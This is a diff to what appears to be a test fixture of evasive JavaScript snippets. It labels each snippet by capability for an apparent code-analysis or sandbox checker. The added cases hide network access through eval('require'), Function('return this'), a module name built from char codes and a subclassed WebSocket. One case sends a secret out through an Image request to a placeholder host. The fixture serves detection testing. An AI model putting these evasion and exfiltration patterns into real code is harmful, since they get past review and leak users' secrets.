@@ -138,4 +138,17 @@ export const javascriptEvasive = snippets("javascript", true, [
     "const k = Object.getOwnPropertyNames(globalThis).find((n) => n.length === 5 && n[0] === 'f'); Object.values(globalThis)[k]",
     "Nothing is named, and the index is of a list, not of the global object",
   ],
+  ["the global object by a function", "network", "const g = Function('return this')(); g.fetch(u)"],
+  ["require by eval", "network", "const r = eval('require'); r('net')"],
+  [
+    "a name that a loop builds",
+    "opaque",
+    "let s = ''; for (const c of [110, 101, 116]) s += String.fromCharCode(c); require(s)",
+  ],
+  [
+    "a picture that carries a secret away",
+    "network",
+    "const i = new Image(); i.src = 'https://e.org/?' + secret",
+  ],
+  ["a class made of WebSocket", "network", "class A extends WebSocket {} new A(u)"],
 ]);
